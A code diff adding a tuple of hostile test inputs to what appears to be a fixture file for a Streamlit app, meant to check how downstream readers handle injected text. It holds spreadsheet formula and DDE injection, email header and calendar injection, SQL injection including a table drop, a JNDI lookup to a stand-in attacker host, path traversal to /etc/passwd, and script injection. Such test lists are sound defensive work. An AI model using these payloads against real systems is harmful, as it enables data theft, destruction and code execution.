@@ -57,6 +57,36 @@ LITERAL = (
     "**bold** `code` $x$ :red[red] :material/home: :smile: -> <- -- ~~gone~~",
 )
 
+TRICKS = (
+    '=HYPERLINK("https://evil.example")',
+    "+cmd|' /C calc'!A0",
+    "＝1+1",
+    "\t@SUM(1)",
+    "x\r\nBcc: boss@evil.example",
+    "x\nBEGIN:VALARM\nATTACH:https://evil.example",
+    "=?utf-8?q?x=0D=0ABcc:_boss@evil.example?=",
+    "'; drop table customers; --",
+    "x%' or '1'='1",
+    '","stage":"customer","x":"',
+    "eq.1,or=(id.gt.0)",
+    "***:.*",
+    "{{7*7}} ${jndi:ldap://evil.example} %s%n%00",
+    "../../etc/passwd",
+    "C:\\CON\\nul",
+    "\ud800 broken",
+    "\ud83d\ude00 halves",
+    "a\x00b",
+    "\u202egnp.exe",
+    "x" + "\u0301" * 500,
+    "x" * 200_000,
+    "</textarea></script><script>alert(1)</script>",
+    "customer_1_page",
+    "\uffff\ufffe \U0010ffff",
+)
+"""Texts that try what reads them later: a spreadsheet, calendar, e-mail, database or disk."""
+
+EVERY = (*PAYLOADS, *TRICKS)
+
 if __name__ == "__main__":
     import streamlit as st
 
